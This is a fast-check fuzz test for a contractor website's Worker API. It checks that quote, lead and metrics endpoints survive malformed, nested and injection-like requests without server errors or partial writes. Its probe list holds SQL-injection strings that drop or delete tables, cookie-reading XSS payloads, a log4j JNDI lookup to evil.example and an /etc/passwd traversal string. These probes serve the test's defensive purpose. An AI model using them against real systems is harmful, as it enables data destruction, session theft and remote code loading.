import fc from "fast-check";
import { describe, expect, it, vi } from "vitest";
import { propertyTypes, quoteServices, timelines } from "../../src/lib/options";
import { PhotoRejected, preparePhotos } from "../../worker/domain/media";
import { chatLead, quoteRequest, send } from "./support/http";
import { ascii, concat, fixture, imagePayload } from "./support/images";
import { count, expectStorageConsistent } from "./support/store";

const endpoints = ["/api/quote-requests", "/api/leads", "/api/metrics"] as const;
const fixtures = ["plain.jpg", "camera-gps.jpg", "plain.png", "exif.webp", "plain.gif", "plain.avif", "exif.avif"];

const injection = fc.constantFrom(
  "'; DROP TABLE leads; --",
  "Robert'); DELETE FROM lead_photos WHERE ('1'='1",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, literal on purpose
  "{{7*7}}${7*7}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style probe, literal on purpose
  "${jndi:ldap://evil.example/a}",
  "../../../../etc/passwd",
  "\u0000\u0001\u001f",
  "\u202e\u200b\ufeff",
  "Zoë Ñúñez 李小龍 محمد 🙂👷🏽‍♀️",
  "__proto__",
  "constructor",
  "x".repeat(6000),
);
const text = fc.oneof(
  fc.string({ maxLength: 80 }),
  fc.string({ unit: "binary", maxLength: 80 }),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  injection,
);
const deep = (depth: number): unknown => (depth === 0 ? "bottom" : { a: deep(depth - 1) });
const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  text,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(text, { maxLength: 3 }),
  fc.dictionary(text, text, { maxKeys: 3 }),
  fc.integer({ min: 50, max: 400 }).map(deep),
);
/** Mostly a plausible value (so that some requests are stored), sometimes anything at all. */
const field = <T>(plausible: fc.Arbitrary<T>) =>
  fc.oneof({ weight: 14, arbitrary: plausible }, { weight: 1, arbitrary: anyValue });

/** Real images, real images with flipped bytes or cut short, random bytes, markup, broken base64. */
const imageBytes = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...fixtures).map((name) => fixture(name)) },
  fc
    .tuple(
      fc.constantFrom(...fixtures),
      fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }),
    )
    .map(([name, flips]) => {
      const bytes = fixture(name).slice();
      for (const [position, value] of flips) bytes[position % bytes.length] = value;
      return bytes;
    }),
  fc.tuple(fc.constantFrom(...fixtures), fc.nat()).map(([name, cut]) => fixture(name).subarray(0, cut % fixture(name).length)),
  fc.uint8Array({ maxLength: 600 }),
  fc.tuple(fc.constantFrom(...fixtures), injection).map(([name, tail]) => concat(fixture(name), ascii(tail))),
);
const image = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(imageBytes, text).map(([bytes, name]) => imagePayload(bytes, name)) },
  { weight: 1, arbitrary: fc.record({ data: text, name: anyValue, type: anyValue, size: anyValue }, { requiredKeys: [] }) },
);

const quote = fc.record(
  {
    type: field(fc.constant("quote-request")),
    name: field(
      fc.oneof({ weight: 5, arbitrary: fc.constantFrom("Maria Kowalski", "Zoë Ñúñez 李小龍") }, injection, fc.constant(" ")),
    ),
    email: field(fc.constantFrom("maria@example.com", "maria@example.com", "maria@", "")),
    phone: field(fc.constantFrom("(312) 555-0187", "+44 20 7946 0958", "123", null)),
    service: field(fc.constantFrom(...quoteServices, "Roofing")),
    timeline: field(fc.constantFrom(...timelines, "")),
    propertyType: field(fc.constantFrom(...propertyTypes)),
    description: field(text),
    propertyAddress: field(text),
    images: field(fc.array(image, { maxLength: 3 })),
    submittedAt: field(fc.constant(new Date().toISOString())),
    formStartedAt: field(fc.constant(Date.now() - 60_000)),
    website: field(fc.constantFrom("", "http://spam.example")),
    source: field(fc.constantFrom("quote-form", "home-form", "embedded-widget")),
  },
  { requiredKeys: [] },
);
const chat = fc.record(
  {
    name: field(fc.oneof(fc.constant("Dev Patel"), injection)),
    phone: field(fc.constant("773-555-0199")),
    address: field(fc.oneof(fc.constant("4410 N Kedzie Ave"), text)),
    service: field(fc.oneof(fc.constant("Mold Remediation"), text)),
    email: field(fc.constantFrom("dev@example.com", null)),
    image: field(image),
    website: field(fc.constant("")),
  },
  { requiredKeys: [] },
);
const metrics = fc.array(
  fc.record(
    {
      name: field(fc.constantFrom("CLS", "INP", "FCP", "LCP", "TTFB", "page-view")),
      value: field(fc.double({ min: 0, max: 1e6, noNaN: true })),
      rating: field(fc.constantFrom("good", "needs-improvement", "poor")),
      path: field(fc.constantFrom("/", "/services/roofing?x=1")),
      id: field(text),
    },
    { requiredKeys: [] },
  ),
  { maxLength: 60 },
);

/** Text a person could type: any script, emoji, and strings that look like attacks but are legal input. */
const legalText = fc
  .oneof(fc.string({ unit: "grapheme", minLength: 1, maxLength: 60 }), injection)
  .filter((value) => value.trim() !== "" && value.length <= 200);
/** Valid leads carrying hostile-looking text and photo sets that mix good, damaged and fake images. */
const plausibleLead = fc.oneof(
  fc
    .record({
      name: legalText,
      description: legalText,
      propertyAddress: legalText,
      city: legalText,
      images: fc.array(imageBytes, { maxLength: 4 }),
    })
    .map(({ images, ...text }) => ({
      endpoint: "/api/quote-requests",
      value: quoteRequest({ ...text, images: images.map((bytes) => imagePayload(bytes)) }),
    })),
  fc
    .record({ name: legalText, address: legalText, service: legalText, image: fc.option(imageBytes, { nil: undefined }) })
    .map(({ image, ...text }) => ({ endpoint: "/api/leads", value: chatLead({ ...text, image: image && imagePayload(image) }) })),
);

/** Each payload mostly goes to its own endpoint, sometimes to another. */
const jsonRequest = fc
  .oneof(
    { weight: 4, arbitrary: plausibleLead },
    { weight: 3, arbitrary: quote.map((value) => ({ endpoint: "/api/quote-requests", value })) },
    { weight: 3, arbitrary: chat.map((value) => ({ endpoint: "/api/leads", value })) },
    { weight: 2, arbitrary: metrics.map((value) => ({ endpoint: "/api/metrics", value })) },
    {
      weight: 2,
      arbitrary: fc.record({
        endpoint: fc.constantFrom(...endpoints),
        value: fc.oneof(quote, chat, metrics, fc.jsonValue({ maxDepth: 4 })),
      }),
    },
  )
  .map(({ endpoint, value }) => ({ endpoint, body: JSON.stringify(value) }));
const jsonBody = jsonRequest.map(({ body }) => body);
const brokenBody = fc.oneof(
  fc.string({ unit: "binary", maxLength: 500 }),
  fc.integer({ min: 1_000, max: 200_000 }).map((depth) => `${"[".repeat(depth)}${"]".repeat(depth)}`),
  fc.integer({ min: 1_000, max: 50_000 }).map((depth) => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`),
  jsonBody.map((body) => body.slice(0, Math.floor(body.length / 2))),
  fc.uint8Array({ maxLength: 300 }),
);
const formBody = fc
  .tuple(
    fc.dictionary(fc.constantFrom("name", "email", "service", "phone", "website", "formStartedAt", "images", "x"), text),
    fc.array(imageBytes, { maxLength: 2 }),
  )
  .map(([fields, files]) => {
    const form = new FormData();
    for (const [name, value] of Object.entries(fields)) form.append(name, value);
    for (const bytes of files) form.append("images", new File([bytes], "upload.jpg", { type: "image/jpeg" }));
    return form;
  });
const contentType = fc.oneof(
  { weight: 6, arbitrary: fc.constant("application/json") },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      "application/json; charset=utf-8",
      "text/plain;charset=UTF-8",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=zzz",
      "text/html",
      "",
    ),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }).filter((type) => /^[\x20-\x7e]*$/.test(type)) },
);
const request = fc.oneof(
  { weight: 5, arbitrary: fc.tuple(jsonRequest, contentType).map(([{ endpoint, body }, type]) => ({ endpoint, type, body })) },
  { weight: 2, arbitrary: fc.record({ endpoint: fc.constantFrom(...endpoints), type: contentType, body: brokenBody }) },
  { weight: 1, arbitrary: fc.record({ endpoint: fc.constant("/api/quote-requests"), type: fc.constant(null), body: formBody }) },
);

describe("whatever arrives, the Worker answers without a server error and stores all or nothing", () => {
  it("holds for malformed, oversized, nested, mistyped, unicode and injection-like requests", async () => {
    const leadsBefore = await count("leads");
    let stored = 0;
    await fc.assert(
      fc.asyncProperty(request, fc.option(fc.uuid(), { nil: undefined }), async ({ endpoint, type, body }, idempotencyKey) => {
        const headers: Record<string, string> = type === null ? {} : { "Content-Type": type };
        if (idempotencyKey) headers["Idempotency-Key"] = idempotencyKey;
        const response = await send(endpoint, { headers, body: body as BodyInit, redirect: "manual" });
        expect(response.status, await response.clone().text()).toBeLessThan(500);
        if (response.status === 201 || response.status === 303) stored++;
        if (response.status >= 400) {
          const problem = await response.json<{ error: unknown; fields: unknown }>();
          expect(typeof problem.error).toBe("string");
          expect(typeof problem.fields).toBe("object");
        }
      }),
      { numRuns: 100 },
    );
    expect(await count("leads")).toBe(leadsBefore + stored);
    await expectStorageConsistent(expect);
  }, 60_000);

  it("the image parsers only ever accept or refuse, for any bytes", () => {
    const parserFault = vi.spyOn(console, "error");
    fc.assert(
      fc.property(fc.array(imageBytes, { minLength: 1, maxLength: 3 }), (images) => {
        try {
          const photos = preparePhotos(images.map((bytes) => ({ name: "x", data: bytes.toBase64() })));
          for (const photo of photos) {
            expect(photo.width).toBeGreaterThan(0);
            expect(photo.height).toBeGreaterThan(0);
            expect(photo.bytes.length).toBeGreaterThan(0);
          }
        } catch (error) {
          expect(error).toBeInstanceOf(PhotoRejected);
        }
      }),
      { numRuns: 500 },
    );
    expect(parserFault).not.toHaveBeenCalled();
  });
});
